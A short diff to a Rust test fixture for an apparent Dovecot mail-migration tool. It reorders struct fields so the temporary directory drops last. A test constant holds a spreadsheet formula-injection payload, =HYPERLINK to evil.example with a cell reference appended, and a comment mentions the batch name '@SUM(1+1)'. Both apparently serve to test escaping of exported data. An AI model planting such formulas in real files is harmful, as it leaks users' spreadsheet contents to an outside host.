@@ -187,11 +187,13 @@ fn add_folder(d: &Dovecot, user: &str, name: &str, subject: &str, size: usize) {
 /// and bob (a wrong password: the source's refusal comes back with `NO_TAIL`) in batch
 /// `@SUM(1+1)`; the source behind a proxy that rewrites Dovecot's refusal text.
 struct Fixture {
-    _root: tempfile::TempDir,
     _src: Dovecot,
     _dst: Dovecot,
     _proxy: FaultProxy,
     p: ProjectDir,
+    // Last: fields drop in order, and the servers' directories must outlive their
+    // stop (a Dovecot whose directory is gone is never stopped).
+    _root: tempfile::TempDir,
 }
 
 const BATCH_A: &str = "=HYPERLINK(\"http://evil.example/?\"&A1)";
